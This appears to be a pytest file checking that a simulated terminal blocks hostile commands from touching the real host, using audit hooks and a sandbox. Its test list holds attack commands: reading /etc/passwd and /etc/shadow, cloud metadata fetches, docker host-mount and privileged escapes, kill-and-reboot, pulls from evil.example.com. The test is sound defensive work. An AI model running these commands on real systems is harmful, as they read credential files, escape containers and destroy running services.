"""No network, no host: hostile commands in a real world, with an eye on every system event."""

from __future__ import annotations

import sys
import threading

import pytest

from simulator import World
from simulator.scenarios import type_line
from webui.live.cage import FORBIDDEN, caged

HOSTILE = [
    "cat /etc/passwd /etc/hostname /proc/self/environ",
    "cat ../../../../../../etc/shadow; ls -la /root /tmp /proc",
    "wget -O - http://169.254.169.254/latest/meta-data/",
    "curl http://canary.example.com/",
    "nslookup canary.example.com",
    "echo owned > /tmp/drydock-was-here; cat /tmp/drydock-was-here",
    "docker run --rm -v /:/host busybox cat /host/etc/passwd",
    "docker run --rm --privileged --net host --pid host busybox wget -O - http://127.0.0.1:8000/",
    "docker run --rm busybox sh -c 'kill -9 1; kill -9 -1; reboot -f'",
    "docker pull evil.example.com/image",
    "docker build https://github.com/evil/repository.git",
    "docker load -i /etc/passwd",
    "python3 -c 'import os; os.system(\"id\")'",
    "$(printf 'i\\144')",
]

_seen: list[str] = []
_watching = threading.local()


def _watch(event: str, args: tuple) -> None:
    if getattr(_watching, "on", False) and event in FORBIDDEN:
        _seen.append(f"{event} {args[:1]!r}")


sys.addaudithook(_watch)


@pytest.fixture(scope="module")
def world() -> World:
    made = World("docker", seed=1)
    type_line(made, "main", "echo ready")      # whatever loads a module at first use has done so
    type_line(made, "main", "docker run --rm busybox true")
    return made


@pytest.mark.parametrize("line", HOSTILE)
def test_nothing_typed_reaches_the_host(world, line):
    _seen.clear()
    world.take_output()
    _watching.on = True
    try:
        with caged():
            type_line(world, "main", line)
    finally:
        _watching.on = False
    assert not _seen
    printed = "".join(fields["text"] for _at_ms, kind, fields in world.take_output()
                      if kind == "terminal.output")
    with open("/etc/hostname") as name:
        assert name.read().strip() not in printed.replace(line, "")
